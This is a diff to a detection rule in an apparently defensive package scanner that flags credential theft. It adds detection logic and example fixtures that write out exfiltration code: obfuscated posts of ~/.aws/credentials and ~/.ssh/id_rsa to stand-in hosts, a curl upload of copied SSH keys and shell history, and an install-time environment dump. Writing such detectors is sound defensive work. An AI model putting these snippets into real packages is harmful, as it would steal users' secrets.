@@ -6,10 +6,10 @@ import re
 from collections.abc import Iterator
 
 from pratique.facts.model import PackageFacts
-from pratique.facts.python.model import Call, Does, Source, Taint
+from pratique.facts.python.model import Call, Does, PythonFacts, Source, Taint
 from pratique.facts.python.secrets import irreplaceable, secret_argument, secret_place, secret_variable
 from pratique.facts.shell import read_shell
-from pratique.finding import Behaviour, Confidence, Finding, Severity
+from pratique.finding import Behaviour, Confidence, Finding, Phase, Severity
 from pratique.rules.claims import LOCAL_PLACE, calls, claim, command, destination, hidden, when
 from pratique.rules.rule import Example, Rule
 
@@ -38,7 +38,20 @@ _WHAT = {
 }
 
 
+_DROPS = frozenset({Source.SECRET, Source.ENVIRON, Source.CLIPBOARD, Source.SCREEN, Source.KEYS})
+_NAME = re.compile(r"[^<>/\\\s'\"@=]{3,120}\.\w{1,8}(?![^/\\]*[/\\])")
+"""The last part of a path, as far as it is known and long enough to be meant."""
+_KINDS = 2
+"""So many kinds of secrets copied into one place are gathered for somebody else."""
+_KEPT = re.compile(r"(?:^|[;&|]\s*)(?:/usr/bin/)?(?:env|printenv|set)\s*(?:\|[^|>]{1,40})?>{1,2}\s*\S")
+
+
 def _check(facts: PackageFacts) -> Iterator[Finding]:
+    dropped = _dropped(facts)
+    for file in facts.python:
+        yield from _collected(file)
+        if dropped:
+            yield from _picked_up(file, dropped)
     for path, call in calls(facts):
         if call.does & {Does.SEND, Does.FETCH}:
             yield from _sent(path, call)
@@ -47,6 +60,49 @@ def _check(facts: PackageFacts) -> Iterator[Finding]:
                 yield _finding(path, call, "secrets", (), sure=True)
             elif taints := _carried(call):
                 yield _finding(path, call, _WHAT[taints[0].source], taints, sure=call.phase.automatic)
+            elif call.phase is Phase.INSTALL and _KEPT.search(command(call)):
+                message = f"keeps the whole environment in a file {when(call.phase)}"
+                yield claim(_ID, Behaviour.THEFT, path, call, message, severity=Severity.CRITICAL)
+
+
+def _dropped(facts: PackageFacts) -> dict[str, tuple[str, Taint]]:
+    """Files that secrets were written to, by name: who wrote, and what."""
+    found: dict[str, tuple[str, Taint]] = {}
+    for path, call in calls(facts):
+        if Does.WRITE in call.does and (target := call.arguments.get("path")) and (name := _NAME.search(target.text)):
+            taint = next(iter(call.taints(*_DROPS)), None)
+            if taint is not None:
+                found.setdefault(name[0], (path, taint))
+    return found
+
+
+def _picked_up(file: PythonFacts, dropped: dict[str, tuple[str, Taint]]) -> Iterator[Finding]:
+    """A file that one module filled with secrets and another one sends."""
+    for call in file.calls:
+        if Does.SEND not in call.does or call.taints(*_STOLEN) or LOCAL_PLACE.search(destination(call)):
+            continue
+        for read in call.taints(Source.FILE):
+            name = _NAME.search(read.detail)
+            by, taint = dropped.get(name[0], ("", read)) if name else ("", read)
+            if by and by != file.path:
+                covert = bool(destination(call)) and hidden(call, destination(call))
+                what = _WHAT.get(taint.source, "credentials")
+                yield _finding(file.path, call, what, (taint, read), sure=call.phase.automatic or covert)
+                return
+
+
+def _collected(file: PythonFacts) -> Iterator[Finding]:
+    """Several kinds of secrets are copied, and a command of the same file uploads something."""
+    copies = [c for c in file.calls if {Does.READ, Does.WRITE} <= c.does]
+    kinds = {t.detail.partition(" (")[0]: t for c in copies for t in c.taints(Source.SECRET)}
+    if len(kinds) < _KINDS:
+        return
+    for call in file.calls:
+        if Does.RUN_PROCESS in call.does and "@" in command(call) and (places := read_shell(command(call)).sends):
+            message = f"gathers {' and '.join(sorted(kinds))} and uploads files to {places[0]} {when(call.phase)}"
+            taints = tuple(kinds[kind] for kind in sorted(kinds))
+            yield claim(_ID, Behaviour.THEFT, file.path, call, message, severity=Severity.CRITICAL, taints=taints)
+            return
 
 
 def _sent(path: str, call: Call) -> Iterator[Finding]:
@@ -161,8 +217,52 @@ RULE = Rule(
                 "    requests.post('http://203.0.113.9/c', json={'k': private_key})\n"
             },
         ),
+        Example(
+            title="gathered in an archive, which is sent",
+            files={
+                "pkg/__init__.py": "import os, requests as r\nfrom zipfile import ZipFile\nz = os.getenv('TEMP') + '/a.zip'\n"
+                "with ZipFile(z, 'w') as f:\n    f.write(os.path.expanduser('~/.aws/credentials'))\n"
+                "getattr(r, 'po' + 'st')('https://c.example.invalid/', files={'f': open(z, 'rb')})\n"
+            },
+        ),
+        Example(
+            title="gathered by one module and sent by another",
+            files={
+                "pkg/a.py": "import shutil, socket\ndef collect():\n    shutil.copyfile('/home/u/.ssh/id_rsa', '/tmp/state.bin')\n",
+                "pkg/__init__.py": "import getpass, requests\n"
+                "requests.post('http://203.0.113.9/' + getpass.getuser(), files={'f': open('/tmp/state.bin', 'rb')})\n",
+            },
+        ),
+        Example(
+            title="copied one by one and uploaded by a command, when called",
+            files={
+                "pkg/__init__.py": "import os, shutil\ndef run(to):\n    shutil.copytree('/home/u/.ssh', to + '/s')\n"
+                "    shutil.copyfile('/home/u/.bash_history', to + '/h')\n"
+                "    getattr(os, 'sys' + 'tem')('curl -F file=@' + to + '.zip https://c.example.invalid/up')\n"
+            },
+        ),
+        Example(
+            title="the environment kept in a file at install",
+            files={"setup.py": "import os\nos.system('env > build/LICENSE')\n"},
+        ),
     ),
     quiet=(
+        Example(
+            title="a backup of one's own keys, which stays",
+            files={
+                "pkg/__init__.py": "import shutil, requests\ndef backup(to):\n    shutil.copytree('/home/u/.ssh', to + '/ssh')\n"
+                "    shutil.copyfile('/home/u/.bash_history', to + '/history')\n"
+                "    requests.post('https://c.example.invalid/done', json={'ok': True})\n"
+            },
+        ),
+        Example(
+            title="one module writes a report of its own, another uploads it",
+            files={
+                "pkg/a.py": "def report(lines):\n    open('/tmp/report.txt', 'w').write(lines)\n",
+                "pkg/b.py": "import requests\ndef upload():\n"
+                "    requests.post('https://c.example.invalid/', files={'f': open('/tmp/report.txt', 'rb')})\n",
+            },
+        ),
         Example(
             title="a client with a token of its own service",
             files={
